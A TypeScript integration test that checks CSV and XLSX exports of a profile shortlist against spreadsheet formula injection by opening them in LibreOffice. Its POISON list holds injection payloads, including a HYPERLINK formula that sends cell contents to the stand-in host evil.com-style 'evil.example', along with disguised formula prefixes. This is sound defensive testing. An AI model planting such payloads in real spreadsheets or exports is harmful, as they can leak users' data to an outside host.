import { beforeAll, describe, expect, it } from 'vitest';
import type { ExportRow } from '../../lib/exchange/column';
import { toXlsx } from '../../lib/exchange/xlsx';
import { importText } from '../unit/exchange/imported-samples';
import { row, toCsv } from '../unit/exchange/samples';
import { readWorkbook } from '../unit/exchange/read-workbook';
import { office, openSheet, savedAsCsv, savedAsWorkbook } from './spreadsheet';

// Norwegian (bokmål) and English of the United States, as Windows numbers them.
const NORDIC = { delimiter: ';', language: 1044 };
const ENGLISH = { delimiter: ',', language: 1033 };

const FIELDS = [
  { id: 'f1', name: 'Fee', kind: 'number' },
  { id: 'f2', name: 'Met', kind: 'tick' },
] as const;

/** Texts as an attacker would choose them, and as people write them. */
const POISON = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1;"x")',
  '+47 900 00 000',
  '-5',
  '@SUM(A1)',
  '＝1+1',
  '\t=1+1',
  '"=1+1',
  "'=1+1",
  'a";b,c\td',
  '\u202E=1+1',
  '12.5',
  '<b>&amp;</b>',
  '_x0041_',
  '👩‍👩‍👧 Ærlig talt',
];

function kari(): ExportRow {
  const one = row(
    {
      profile: {
        site: 'instagram',
        accountId: '68123456789012345',
        handle: 'kari.ø',
        name: 'Kari Ødegård',
        url: 'https://www.instagram.com/kari/',
        followers: { low: 9_500, high: 10_999, value: 10_000, shown: '10K' },
        verified: true,
        bio: 'Sopp;\nskog, "ro"',
        readAt: '2026-11-22T12:00:34.812Z',
        reader: { site: 'instagram', version: '1.2.3' },
      },
      summary: { medianLikes: 502.5, lastPostAt: '2026-11-20T09:00:00Z' },
      tags: ['sopp', 'tur'],
      note: 'Spør om pris;\nventer',
      quote: 1_800.5,
      savedAt: '2026-11-22T18:00:00Z',
      // Rounded to seconds it would be the next day.
      updatedAt: '2026-11-22T23:59:59.999Z',
      fields: { f1: 3.691, f2: true },
    },
    ['Høst 2026'],
  );
  one.entry.assessment.cost = { low: 0.125, high: null, currency: 'NOK' };
  return one;
}

const csvOf = (preset: 'excel-nordic' | 'excel', rows: ExportRow[]) => toCsv(rows, { preset, fields: FIELDS });
const xlsxOf = (rows: ExportRow[]) => toXlsx([rows], { fields: FIELDS });

type Sheet = Awaited<ReturnType<typeof openSheet>>;

// What is true or false LibreOffice keeps as a formula of its own.
const formulasOf = ({ rows }: Sheet) =>
  rows
    .flatMap((cells) => Object.values(cells).flatMap((cell) => cell?.formula ?? []))
    .filter((formula) => formula !== 'of:=TRUE()');

if (!office) {
  it('LibreOffice not here: no spreadsheet program has opened an export', () => expect(office).toBeUndefined());
} else {
  describe.each([
    ['the Nordic CSV in Norwegian settings', 'excel-nordic', NORDIC],
    ['the English CSV in English settings', 'excel', ENGLISH],
  ] as const)('%s', (_, preset, settings) => {
    let sheet: Sheet;
    beforeAll(async () => {
      const poisoned = POISON.map((note) => row({ note, contact: note, profile: { bio: note } }));
      sheet = await openSheet(csvOf(preset, [kari(), ...poisoned]), 'shortlist.csv', settings);
    });

    it('has numbers that are numbers and words that are words', () => {
      expect(sheet.columns[0]).toBe('platform');
      expect(sheet.rows[0]).toMatchObject({
        name: { type: 'string', value: 'Kari Ødegård' },
        account_id: { type: 'string', value: 'instagram:68123456789012345' },
        followers: { type: 'float', value: '10000' },
        median_likes: { type: 'float', value: '502.5' },
        cost_low: { type: 'float', value: '0.125' },
        quote: { type: 'float', value: '1800.5' },
        'own_number: Fee': { type: 'float', value: '3.691' },
        tags: { type: 'string', value: 'sopp; tur' },
        list: { type: 'string', value: 'Høst 2026' },
        note: { type: 'string', value: 'Spør om pris;\nventer' },
        bio: { type: 'string', value: 'Sopp;\nskog, "ro"' },
      });
    });

    it('takes no word for a formula', () => {
      expect(sheet.rows).toHaveLength(1 + POISON.length);
      expect(formulasOf(sheet)).toEqual([]);
      expect(sheet.rows[1]?.note).toMatchObject({ type: 'string', value: "'=1+1" });
    });
  });

  it('the program takes the same words for formulas when they are not guarded', async () => {
    const { rows } = await openSheet('"note"\r\n"=1+1"\r\n', 'naked.csv', ENGLISH);
    expect(rows[0]?.note).toMatchObject({ type: 'float', formula: 'of:=1+1' });
  });

  describe('the workbook', () => {
    let sheet: Sheet;
    beforeAll(async () => {
      const poisoned = POISON.map((note) => row({ note, contact: note, profile: { bio: note } }));
      sheet = await openSheet(await xlsxOf([kari(), ...poisoned]), 'shortlist.xlsx');
    });

    it('has numbers, days, yes and no, and links', () => {
      expect(sheet.rows[0]).toMatchObject({
        followers: { type: 'float', value: '10000' },
        median_likes: { type: 'float', value: '502.5' },
        verified: { type: 'boolean', value: 'true' },
        last_post_at: { type: 'date', value: '2026-11-20T09:00:00' },
        saved_at: { type: 'date', value: '2026-11-22T18:00:00' },
        updated_at: { type: 'date', value: expect.stringMatching(/^2026-11-22T23:59:59\.99/) },
        account_id: { type: 'string', value: 'instagram:68123456789012345' },
        url: { type: 'string', value: 'https://www.instagram.com/kari/', link: 'https://www.instagram.com/kari/' },
        note: { type: 'string', value: 'Spør om pris;\nventer' },
        'own_number: Fee': { type: 'float', value: '3.691' },
        'own_tick: Met': { type: 'boolean', value: 'true' },
      });
    });

    it('has a filter over all columns', () => {
      const range = sheet.document.querySelector('table\\:database-range');
      expect(range?.getAttribute('table:display-filter-buttons')).toBe('true');
      expect(range?.getAttribute('table:target-range-address')).toMatch(/^Shortlist\.A1:Shortlist\.[A-Z]+17$/);
    });

    it('keeps its header in sight', async () => {
      const { sheet: saved } = await readWorkbook(await savedAsWorkbook(await xlsxOf([kari()])));
      const pane = saved.querySelector('pane');
      expect(pane?.getAttribute('state')).toBe('frozen');
      expect(pane?.getAttribute('ySplit')).toBe('1');
    });

    it('takes no word for a formula, and changes none', () => {
      expect(formulasOf(sheet)).toEqual([]);
      const notes = sheet.rows.slice(1).map(({ note }) => note);
      expect(notes.map((cell) => cell?.type)).toEqual(POISON.map(() => 'string'));
      expect(notes.at(-1)?.value).toBe('👩‍👩‍👧 Ærlig talt');
      expect(notes.at(-2)?.value).toBe('_x0041_');
      expect(notes.at(-3)?.value).toBe('<b>&amp;</b>');
    });
  });

  it.each([
    ['Norwegian', NORDIC],
    ['English', ENGLISH],
  ] as const)('the workbook saved as CSV in %s settings gives every fact and word back', async (_, settings) => {
    const poisoned = POISON.map((note) => row({ note, tags: [note] }));
    const { rows, problems } = importText(
      await savedAsCsv(await xlsxOf([kari(), ...poisoned]), 'shortlist.xlsx', settings),
    );
    expect(problems).toEqual([]);
    const { profile, quote, tags, note } = kari().entry;
    expect(rows[0]).toMatchObject({
      profile,
      words: { quote, tags, note },
      summary: { medianLikes: 502.5, lastPostAt: '2026-11-20T09:00:00.000Z' },
      lists: ['Høst 2026'],
      fields: [
        { name: 'Fee', kind: 'number', value: 3.691 },
        { name: 'Met', kind: 'tick', value: true },
      ],
      savedAt: '2026-11-22T18:00:00.000Z',
      updatedAt: '2026-11-22T23:59:59.999Z',
    });
    expect(rows.slice(1).map(({ words }) => words.note)).toEqual(POISON);
    expect(rows.slice(1).map(({ words }) => words.tags)).toEqual(POISON.map((tag) => [tag]));
  });
}
